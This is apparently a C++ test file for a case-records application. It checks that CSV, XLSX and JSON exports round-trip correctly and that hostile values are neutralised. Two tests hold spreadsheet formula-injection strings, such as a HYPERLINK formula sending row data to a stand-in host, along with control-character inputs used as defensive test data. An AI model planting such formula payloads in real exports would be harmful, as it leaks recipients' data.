// Every record leaving the vault as CSV, XLSX and JSON (docs/exports.md): labels or HTCDS keys, read back with
// independent readers (a strict CSV reader, openpyxl for the workbook, QJsonDocument), hostile values included.
#include "core/base/Csv.h"
#include "core/model/Schema.h"
#include "core/query/Xlsx.h"
#include "tests/core/RecordsFixture.h"
#include "tests/support/TestSupport.h"

#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>

#include <functional>

using namespace fieldcase;

namespace {

struct Fixture : test::RecordsFixture {
    QString newPerson(const QString& given, const QString& family) {
        return create("person", {{QStringLiteral("given_name"), given}, {QStringLiteral("family_name"), family}});
    }
    QString out(const char* name) const { return root.filePath(QLatin1String(name)); }
};

// A strict RFC 4180 reader: quoted cells, doubled quotes, CRLF line ends.
QList<QStringList> parseCsv(const QByteArray& bytes) {
    REQUIRE(bytes.startsWith("\xEF\xBB\xBF"));
    const QString text = QString::fromUtf8(bytes.mid(3));
    QList<QStringList> rows;
    QStringList row;
    QString cell;
    bool quoted = false;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text[i];
        if (quoted) {
            if (c == QLatin1Char('"') && i + 1 < text.size() && text[i + 1] == QLatin1Char('"')) {
                cell += c;
                ++i;
            } else if (c == QLatin1Char('"')) {
                quoted = false;
            } else {
                cell += c;
            }
        } else if (c == QLatin1Char('"')) {
            quoted = true;
        } else if (c == QLatin1Char(',')) {
            row << cell;
            cell.clear();
        } else if (c == QLatin1Char('\r') && i + 1 < text.size() && text[i + 1] == QLatin1Char('\n')) {
            row << cell;
            rows << row;
            row.clear();
            cell.clear();
            ++i;
        } else {
            cell += c;
        }
    }
    REQUIRE_FALSE(quoted);
    REQUIRE(row.isEmpty());
    return rows;
}

}  // namespace

TEST_CASE("the CSV export round-trips through a CSV parser", "[records][export]") {
    Fixture fx;
    const QString tricky = QStringLiteral("Comma, \"quotes\"\nand a second line — ёжик");
    const QString caseId = fx.create(
        "case",
        {{QStringLiteral("title"), QStringLiteral("Экспорт")},
         {QStringLiteral("summary"), tricky},
         {QStringLiteral("exploitation"), QStringList{QStringLiteral("ForcedLabour"), QStringLiteral("Servitude")}}});
    fx.newPerson(QStringLiteral("Анна"), QStringLiteral("Иванова"));
    const QString out = fx.root.filePath(QStringLiteral("export"));
    auto files = fx.records.exportRecords(out, ExportFormat::Csv, ExportValues::Labels);
    REQUIRE(files.ok());
    REQUIRE(files->size() == static_cast<qsizetype>(model::Schema::tables().size()));

    const auto cases = parseCsv(test::readAll(QDir(out).filePath(QStringLiteral("cases.csv"))));
    REQUIRE(cases.size() == 2);
    const QStringList header = cases[0];
    REQUIRE(header[0] == QStringLiteral("id"));
    const QStringList row = cases[1];
    REQUIRE(row.size() == header.size());
    REQUIRE(row[0] == caseId);
    REQUIRE(row[header.indexOf(QStringLiteral("Summary"))] == tricky);
    REQUIRE(row[header.indexOf(QStringLiteral("Title"))] == QStringLiteral("Экспорт"));
    // Vocabulary values appear as labels, not keys.
    const QString exploitation = row[header.indexOf(QStringLiteral("Type of exploitation"))];
    REQUIRE(exploitation.contains(QStringLiteral("; ")));
    REQUIRE_FALSE(exploitation.contains(QStringLiteral("ForcedLabour")));
    REQUIRE(parseCsv(test::readAll(QDir(out).filePath(QStringLiteral("persons.csv")))).size() == 2);
    REQUIRE(parseCsv(test::readAll(QDir(out).filePath(QStringLiteral("notes.csv")))).size() == 1);
}

TEST_CASE("a value typed as a spreadsheet formula is exported as text", "[records][export]") {
    // A case title written on a hostile laptop travels to the coordinator's; opened in a spreadsheet, a cell that
    // starts with = + - @ would run as a formula (fetch a web address with the row's data, for one).
    Fixture fx;
    const QStringList formulas{QStringLiteral("=HYPERLINK(\"http://x.example/\"&A2;\"открыть\")"),
                               QStringLiteral("+7 (916) 123"), QStringLiteral("-2+3"), QStringLiteral("@SUM(A1)")};
    for (const QString& title : formulas)
        fx.create("case", {{QStringLiteral("title"), title}});
    fx.create("case", {{QStringLiteral("title"), QStringLiteral("-42")}});
    const QString out = fx.root.filePath(QStringLiteral("export"));
    REQUIRE(fx.records.exportRecords(out, ExportFormat::Csv, ExportValues::Labels).ok());
    const auto cases = parseCsv(test::readAll(QDir(out).filePath(QStringLiteral("cases.csv"))));
    const qsizetype title = cases[0].indexOf(QStringLiteral("Title"));
    QStringList exported;
    for (qsizetype row = 1; row < cases.size(); ++row)
        exported << cases[row][title];
    for (const QString& formula : formulas)
        CHECK(exported.contains(QLatin1Char('\'') + formula));
    CHECK(exported.contains(QStringLiteral("-42")));  // a number stays a number
    CHECK(fieldcase::csvLine({QStringLiteral("a\"b"), QString()}) == QByteArray("\"a\"\"b\",\"\"\r\n"));
    CHECK(fieldcase::csvCell(QStringLiteral("\t=1+1")) == QByteArray("\"'\t=1+1\""));  // multi-line text keeps tabs
}

namespace {

// A small office: a case with two people (one a survivor with consents), a referral to an organisation, a note.
struct Office : Fixture {
    QString caseId = create("case", {{QStringLiteral("title"), QStringLiteral("Рынок на Садовой")},
                                     {QStringLiteral("status"), QStringLiteral("Active")},
                                     {QStringLiteral("retain"), true},
                                     {QStringLiteral("exploitation"),
                                      QStringList{QStringLiteral("ForcedLabour"), QStringLiteral("Servitude")}},
                                     {QStringLiteral("exploitation_countries"), QStringLiteral("RU,KZ")}});
    QString survivorId = create("person", {{QStringLiteral("given_name"), QStringLiteral("Анна")},
                                           {QStringLiteral("family_name"), QStringLiteral("Иванова")},
                                           {QStringLiteral("estimated_age"), 24},
                                           {QStringLiteral("gender"), QStringLiteral("Feminine")}});
    QString sisterId = newPerson(QStringLiteral("Мария"), QStringLiteral("Иванова"));
    QString organisationId = create("organisation", {{QStringLiteral("name"), QStringLiteral("Приют «Сёстры»")}});
    Office() {
        create("case_person", {{QStringLiteral("case_id"), caseId},
                               {QStringLiteral("person_id"), survivorId},
                               {QStringLiteral("role"), QStringLiteral("Survivor")}});
        create("case_person", {{QStringLiteral("case_id"), caseId},
                               {QStringLiteral("person_id"), sisterId},
                               {QStringLiteral("role"), QStringLiteral("FamilyMember")}});
        create("consent", {{QStringLiteral("person_id"), survivorId},
                           {QStringLiteral("item"), QStringLiteral("Interview")},
                           {QStringLiteral("given"), true}});
        create("referral", {{QStringLiteral("case_id"), caseId},
                            {QStringLiteral("organisation_id"), organisationId},
                            {QStringLiteral("service_type"), QStringLiteral("Shelter")},
                            {QStringLiteral("status"), QStringLiteral("Planned")}});
        create("note", {{QStringLiteral("case_id"), caseId}, {QStringLiteral("text"), QStringLiteral("Позвонить")}});
        create("case", {{QStringLiteral("title"), QStringLiteral("Второе дело")}});
    }
};

// The workbook as openpyxl reads it: sheet name to rows of (data type, text) cells.
QJsonObject readWorkbook(const QString& path) {
    QProcess reader;
    reader.start(QStringLiteral("/usr/bin/python3"),
                 {QStringLiteral(FIELDCASE_SOURCE_DIR "/tests/tools/read_xlsx.py"), path});
    REQUIRE(reader.waitForFinished(60000));
    INFO(reader.readAllStandardError().toStdString());
    REQUIRE(reader.exitCode() == 0);
    const QJsonDocument document = QJsonDocument::fromJson(reader.readAllStandardOutput());
    REQUIRE(document.isObject());
    return document.object();
}

// A sheet's rows as text, and whether every cell is text (never a number, a formula or a flag).
QList<QStringList> sheetRows(const QJsonObject& workbook, const char* sheet, bool* allText = nullptr) {
    QList<QStringList> rows;
    if (allText != nullptr) *allText = true;
    for (const QJsonValue& row : workbook.value(QLatin1String(sheet)).toArray()) {
        QStringList cells;
        for (const QJsonValue& cell : row.toArray()) {
            const QJsonArray typed = cell.toArray();
            cells << typed.at(1).toString();
            if (allText != nullptr && !typed.at(1).toString().isEmpty() && typed.at(0).toString() != QLatin1String("s"))
                *allText = false;
        }
        rows << cells;
    }
    return rows;
}

// Rows as the CSV reader gives them, with the cells a spreadsheet leaves empty at a row's end dropped.
QList<QStringList> trimmed(QList<QStringList> rows) {
    for (QStringList& row : rows) {
        while (!row.isEmpty() && row.back().isEmpty())
            row.removeLast();
    }
    return rows;
}

}  // namespace

TEST_CASE("the CSV export writes HTCDS keys and field names when asked", "[records][export]") {
    Office office;
    const QString out = office.out("keys");
    REQUIRE(office.records.exportRecords(out, ExportFormat::Csv, ExportValues::Keys).ok());
    const auto cases = parseCsv(test::readAll(QDir(out).filePath(QStringLiteral("cases.csv"))));
    const QStringList header = cases[0];
    REQUIRE(header.contains(QStringLiteral("exploitation")));
    REQUIRE(header.contains(QStringLiteral("exploitation_countries")));
    const QStringList row = cases[1];
    CHECK(row[header.indexOf(QStringLiteral("exploitation"))] == QStringLiteral("ForcedLabour; Servitude"));
    CHECK(row[header.indexOf(QStringLiteral("status"))] == QStringLiteral("Active"));
    CHECK(row[header.indexOf(QStringLiteral("exploitation_countries"))] == QStringLiteral("KZ; RU"));
    CHECK(row[header.indexOf(QStringLiteral("retain"))] == QStringLiteral("true"));
    CHECK(row[header.indexOf(QStringLiteral("archived"))] == QStringLiteral("false"));
    const auto people = parseCsv(test::readAll(QDir(out).filePath(QStringLiteral("persons.csv"))));
    CHECK(people[1][people[0].indexOf(QStringLiteral("gender"))] == QStringLiteral("Feminine"));
    CHECK(people[1][people[0].indexOf(QStringLiteral("estimated_age"))] == QStringLiteral("24"));
}

TEST_CASE("the workbook holds every kind as a sheet of text that openpyxl reads as the CSV says",
          "[records][export][xlsx]") {
    Office office;
    for (const ExportValues values : {ExportValues::Labels, ExportValues::Keys}) {
        INFO((values == ExportValues::Keys ? "keys" : "labels"));
        const QString csvDir = office.out(values == ExportValues::Keys ? "csv-keys" : "csv-labels");
        const QString xlsxDir = office.out(values == ExportValues::Keys ? "xlsx-keys" : "xlsx-labels");
        REQUIRE(office.records.exportRecords(csvDir, ExportFormat::Csv, values).ok());
        const auto files = office.records.exportRecords(xlsxDir, ExportFormat::Xlsx, values);
        REQUIRE(files.ok());
        REQUIRE(*files == QStringList{QDir(xlsxDir).filePath(QStringLiteral("fieldcase-records.xlsx"))});
        const QJsonObject workbook = readWorkbook(files->first());
        REQUIRE(workbook.size() == static_cast<qsizetype>(model::Schema::tables().size()));
        for (const auto& table : model::Schema::tables()) {
            INFO(table.name);
            bool allText = false;
            const auto sheet = sheetRows(workbook, table.name, &allText);
            const auto csv = parseCsv(test::readAll(QDir(csvDir).filePath(QLatin1String(table.name) + ".csv")));
            CHECK(trimmed(sheet) == trimmed(csv));
            CHECK(allText);
        }
    }
}

TEST_CASE("a hostile value cannot break the workbook or become a formula in it", "[records][export][xlsx]") {
    Fixture fx;
    fx.create("case", {{QStringLiteral("title"), QStringLiteral("=HYPERLINK(\"http://x.example/\"&A2)")},
                       {QStringLiteral("summary"), QStringLiteral("@SUM(A1)")}});
    const auto files = fx.records.exportRecords(fx.out("hostile"), ExportFormat::Xlsx, ExportValues::Labels);
    REQUIRE(files.ok());
    bool allText = false;
    const auto cases = sheetRows(readWorkbook(files->first()), "cases", &allText);
    CHECK(allText);
    const QStringList header = cases[0];
    CHECK(cases[1][header.indexOf(QStringLiteral("Title"))] == QStringLiteral("=HYPERLINK(\"http://x.example/\"&A2)"));
    CHECK(cases[1][header.indexOf(QStringLiteral("Summary"))] == QStringLiteral("@SUM(A1)"));

    // Text XML cannot carry never reaches a record through the facade (validation refuses control characters),
    // but the writer does not rely on that: a damaged value would otherwise make the whole workbook unreadable.
    query::XlsxWriter writer;
    const QString control = QStringLiteral("Иванова") + QChar(0x01) + QChar(0x1B) + QStringLiteral("[31m");
    const QString surrogate = QStringLiteral("Анна ") + QChar(0xD800) + QStringLiteral(" конец");
    const QString emoji = QStringLiteral("Маша \U0001F600");
    const QString tooLong(query::XlsxWriter::kMaxCellCharacters + 10, QLatin1Char('x'));
    REQUIRE(writer.beginSheet(QStringLiteral("damaged"), {QStringLiteral("text")}).ok());
    for (const QString& text : {control, surrogate, emoji, tooLong})
        REQUIRE(writer.addRow({text}).ok());
    REQUIRE(writer.endSheet().ok());
    const QString path = fx.out("damaged.xlsx");
    REQUIRE(writer.save(path).ok());
    const auto rows = sheetRows(readWorkbook(path), "damaged");
    REQUIRE(rows.size() == 5);
    CHECK(rows[1][0] == QStringLiteral("Иванова\uFFFD\uFFFD[31m"));
    CHECK(rows[2][0] == QStringLiteral("Анна \uFFFD конец"));
    CHECK(rows[3][0] == emoji);  // a valid pair of surrogates stays
    CHECK(rows[4][0].size() == query::XlsxWriter::kMaxCellCharacters);
    CHECK(rows[4][0].endsWith(QChar(u'…')));
    // Nothing of the workbook went anywhere but the finished file.
    CHECK(QDir(fx.root.path()).entryList(QDir::Files | QDir::Hidden).filter(QStringLiteral(".xlsx")) ==
          QStringList{QStringLiteral("damaged.xlsx")});
}

TEST_CASE("the JSON export nests what belongs to each case and person and loses no record", "[records][export][json]") {
    Office office;
    const auto files = office.records.exportRecords(office.out("json"), ExportFormat::Json, ExportValues::Labels);
    REQUIRE(files.ok());
    const QJsonDocument document = QJsonDocument::fromJson(test::readAll(files->first()));
    REQUIRE(document.isObject());
    const QJsonObject root = document.object();
    CHECK(root.value(QStringLiteral("values")).toString() == QStringLiteral("keys"));
    const QJsonArray cases = root.value(QStringLiteral("cases")).toArray();
    REQUIRE(cases.size() == 2);
    QJsonObject market;
    for (const QJsonValue& value : cases) {
        if (value.toObject().value(QStringLiteral("id")).toString() == office.caseId) market = value.toObject();
    }
    REQUIRE(!market.isEmpty());
    CHECK(market.value(QStringLiteral("exploitation")).toArray() ==
          QJsonArray{QStringLiteral("ForcedLabour"), QStringLiteral("Servitude")});
    CHECK(market.value(QStringLiteral("retain")).toBool());
    const QJsonArray links = market.value(QStringLiteral("case_persons")).toArray();
    REQUIRE(links.size() == 2);
    for (const QJsonValue& link : links) {
        CHECK_FALSE(link.toObject().contains(QStringLiteral("case_id")));  // it is inside its case
        CHECK(QStringList({office.survivorId, office.sisterId})
                  .contains(link.toObject().value(QStringLiteral("person_id")).toString()));
    }
    CHECK(
        market.value(QStringLiteral("referrals")).toArray().at(0).toObject().value(QStringLiteral("organisation_id")) ==
        office.organisationId);
    CHECK(market.value(QStringLiteral("notes")).toArray().size() == 1);

    const QJsonArray people = root.value(QStringLiteral("persons")).toArray();
    REQUIRE(people.size() == 2);
    for (const QJsonValue& value : people) {
        const QJsonObject person = value.toObject();
        if (person.value(QStringLiteral("id")).toString() != office.survivorId) continue;
        CHECK(person.value(QStringLiteral("estimated_age")).toInt() == 24);
        CHECK(person.value(QStringLiteral("consents")).toArray().size() == 1);
    }
    CHECK(root.value(QStringLiteral("organisations")).toArray().size() == 1);

    // Every record of the vault is in the document once.
    int records = 0;
    const std::function<void(const QJsonValue&)> countIds = [&](const QJsonValue& value) {
        if (value.isArray()) {
            for (const QJsonValue& item : value.toArray())
                countIds(item);
        } else if (value.isObject()) {
            const QJsonObject object = value.toObject();
            if (object.contains(QStringLiteral("created_at"))) ++records;
            for (const QJsonValue& member : object)
                countIds(member);
        }
    };
    countIds(root);
    CHECK(records == 10);  // two cases, two people, two links, a consent, a referral, a note, an organisation
}

TEST_CASE("docs/exports.md names every column of every kind", "[records][export][docs]") {
    const QString doc = QString::fromUtf8(test::readAll(QStringLiteral(FIELDCASE_SOURCE_DIR "/docs/exports.md")));
    for (const auto& table : model::Schema::tables()) {
        const QString heading = QStringLiteral(": `%1`\n").arg(QLatin1String(table.name));
        const qsizetype start = doc.indexOf(heading);
        INFO(table.name);
        REQUIRE(start >= 0);
        const qsizetype next = doc.indexOf(QStringLiteral("\n### "), start);
        const QString section = doc.mid(start, next < 0 ? -1 : next - start);
        CHECK(section.contains(QStringLiteral("| `id` |")));
        for (const auto& field : table.fields) {
            INFO(field.name);
            CHECK(section.contains(
                QStringLiteral("| `%1` | %2 |").arg(QLatin1String(field.name), QLatin1String(field.label))));
        }
    }
}

TEST_CASE("an export that cannot be written says so", "[records][export]") {
    Office office;
    // A folder where a file is: nothing can be created in it.
    const QString blocked = office.out("blocked");
    test::writeAll(blocked, "not a folder");
    for (const ExportFormat format : {ExportFormat::Csv, ExportFormat::Xlsx, ExportFormat::Json}) {
        const auto written = office.records.exportRecords(blocked, format, ExportValues::Keys);
        REQUIRE_FALSE(written.ok());
        CHECK(written.error().code == ErrorCode::Io);
        CHECK(written.error().message.contains(blocked));
    }
}
